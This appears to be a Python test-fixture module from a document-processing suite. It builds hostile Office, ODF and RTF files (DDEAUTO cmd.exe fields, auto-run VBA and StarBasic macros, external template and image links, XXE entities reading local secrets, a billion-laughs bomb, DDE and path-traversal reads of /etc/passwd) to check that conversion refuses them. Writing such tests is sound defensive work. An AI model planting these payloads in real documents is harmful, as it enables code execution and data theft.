"""Office documents that would run, fetch or read what they should not."""

from __future__ import annotations

from corpus import TOO_MUCH, attached
from office_parts import OFFICE, SEEN, W, docx, field, odf, paragraph, picture, pptx, relations

PRINTED = {"pages": 1, "says": SEEN, "office": True}
DAMAGED = ("MK-Z07", "MK-X05", "MK-Z10")
MANY = (*DAMAGED, "MK-Z05", "MK-Z14", *TOO_MUCH)

# --- printed by the suite, which must not follow them ------------------------------------------------


@attached(".docx", **PRINTED)
def document_that_links_out_in_every_way(bait):
    fields = (
        f"INCLUDEPICTURE &quot;{bait.url}/pole.png&quot; \\d",
        f"INCLUDETEXT &quot;{bait.secret}&quot;",
        "DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/c calc&quot;",
        f"LINK Word.Document.8 &quot;{bait.secret}&quot; \\a",
    )
    settings = f'<w:settings xmlns:w="{W}" xmlns:r="{OFFICE}"><w:attachedTemplate r:id="r1"/></w:settings>'
    return docx(
        paragraph() + picture(1) + picture(2) + "".join(map(field, fields)),
        ("image", f"{bait.url}/obraz.png", True),
        ("image", bait.secret.as_uri(), True),
        ("oleObject", f"{bait.url}/obiekt.ole", True),
        ("settings", "settings.xml", False),
        ("frame", f"{bait.url}/ramka.html", True),
        more={
            "word/settings.xml": settings,
            "word/_rels/settings.xml.rels": relations(("attachedTemplate", f"{bait.url}/szablon.dotm", True)),
        },
    )


@attached(".docm", **PRINTED)
def document_with_a_macro(bait):
    kind = "vnd.ms-word.document.macroEnabled.main+xml"
    relation = ("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin", False)
    project = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + b'Sub AutoOpen()\nShell "touch x"\nEnd Sub'
    return docx(paragraph(), relation, more={"word/vbaProject.bin": project}, main=kind)


@attached(".odt", **PRINTED)
def document_that_starts_scripts_when_opened(bait):
    basic = "http://openoffice.org/2000/library"
    code = f'Sub Start\nOpen "{bait.trace}" For Output As #1\nPrint #1, "x"\nClose #1\nEnd Sub'
    module = (
        '<?xml version="1.0"?><s:module xmlns:s="http://openoffice.org/2000/script" s:name="Modul" '
        f's:language="StarBasic">{code}</s:module>'
    )
    library = (
        f'<?xml version="1.0"?><l:library xmlns:l="{basic}" l:name="Standard" l:readonly="false" '
        'l:passwordprotected="false"><l:element l:name="Modul"/></l:library>'
    )
    libraries = (
        f'<?xml version="1.0"?><l:libraries xmlns:l="{basic}"><l:library l:name="Standard" l:link="false"/>'
        "</l:libraries>"
    )
    python = f"def start(*_):\n    open({str(bait.trace)!r}, 'w')\n"
    events = "".join(
        f'<script:event-listener script:language="ooo:script" script:event-name="dom:{event}" '
        f'xlink:href="vnd.sun.star.script:{what}" xlink:type="simple"/>'
        for event in ("load", "DOMContentLoaded")
        for what in (
            "Standard.Modul.Start?language=Basic&amp;location=document",
            "start.py$start?language=Python&amp;location=document",
        )
    )
    return odf(
        "text",
        f"<office:text><text:p>{SEEN}</text:p></office:text>",
        f"<office:event-listeners>{events}</office:event-listeners>",
        {
            "Basic/Standard/Modul.xml": module,
            "Basic/Standard/script-lb.xml": library,
            "Basic/script-lc.xml": libraries,
            "Scripts/python/start.py": python,
        },
    )


@attached(".odt", **PRINTED)
def document_made_of_other_files(bait):
    pictures = "".join(
        f'<draw:frame draw:name="r{number}"><draw:image xlink:href="{address}" xlink:type="simple" '
        'xlink:show="embed" xlink:actuate="onLoad"/></draw:frame>'
        for number, address in enumerate((f"{bait.url}/a.png", bait.secret.as_uri(), "//127.0.0.1/a/b.png"))
    )
    sections = "".join(
        f'<text:section text:name="s{number}"><text:section-source xlink:href="{address}" xlink:type="simple"/>'
        f"<text:p>.</text:p></text:section>"
        for number, address in enumerate((bait.secret.as_uri(), f"{bait.url}/a.odt"))
    )
    return odf("text", f"<office:text><text:p>{SEEN}{pictures}</text:p>{sections}</office:text>")


# Calc is not on every machine.
@attached(".ods", **PRINTED, refused="MK-Z39")
def table_that_asks_other_files(bait):
    cells = "".join(
        f'<table:table-cell table:formula="of:={formula}" office:value-type="string"><text:p>.</text:p></table:table-cell>'
        for formula in (
            f"WEBSERVICE(&quot;{bait.url}/a&quot;)",
            f"'{bait.secret.as_uri()}'#$A.A1",
            "DDE(&quot;soffice&quot;;&quot;/etc/passwd&quot;;&quot;a&quot;)",
        )
    )
    first = f'<table:table-cell office:value-type="string"><text:p>{SEEN}</text:p></table:table-cell>'
    source = (
        f'<table:table-source xlink:type="simple" xlink:href="{bait.url}/a.csv" table:filter-name="Text"/>'
    )
    rows = f"<table:table-row>{first}</table:table-row><table:table-row>{cells}</table:table-row>"
    sheets = f'<table:table table:name="A">{source}{rows}</table:table>'
    return odf("spreadsheet", f"<office:spreadsheet>{sheets}</office:spreadsheet>")


@attached(".rtf", **PRINTED)
def rich_text_with_fields_and_objects(bait):
    fields = "".join(
        rf"{{\field\fldedit{{\*\fldinst {what}}}{{\fldrslt .}}}}"
        for what in (f'INCLUDEPICTURE "{bait.url}/a.png" \\\\d', f'INCLUDETEXT "{bait.secret}"')
    )
    template = rf"{{\*\template {bait.url}/a.dot}}"
    inside = r"{\object\objautlink\objupdate{\*\objdata 0105000002000000}}"
    return rf"{{\rtf1\ansi{template}{SEEN}\par{fields}{inside}}}".encode()


@attached(".docx", pages=1, refused=DAMAGED, office=True)
def document_with_an_entity_from_a_file(bait):
    before = f'<!DOCTYPE a [<!ENTITY f SYSTEM "{bait.secret.as_uri()}"><!ENTITY g SYSTEM "{bait.url}/dtd">]>'
    return docx(paragraph(f"{SEEN} &f; &g;"), before=before)


@attached(".docx", pages=1, refused=MANY, office=True)
def document_that_laughs_a_thousand_million_times(bait):
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return docx(paragraph(f"{SEEN} &l9;"), before=f'<!DOCTYPE a [<!ENTITY l0 "lol">{entities}]>')


@attached(".pptx", pages=1, refused=(*DAMAGED, "MK-Z11"), office=True)
def presentation_without_slides(bait):
    return pptx(0)


@attached(".pptx", pages=2, refused=(*DAMAGED, "MK-Z11"), office=True)
def presentation_of_slides_from_elsewhere(bait):
    return pptx(2, ("slide", f"{bait.url}/slajd.xml", True), ("slide", "/../../../../etc/passwd", False))
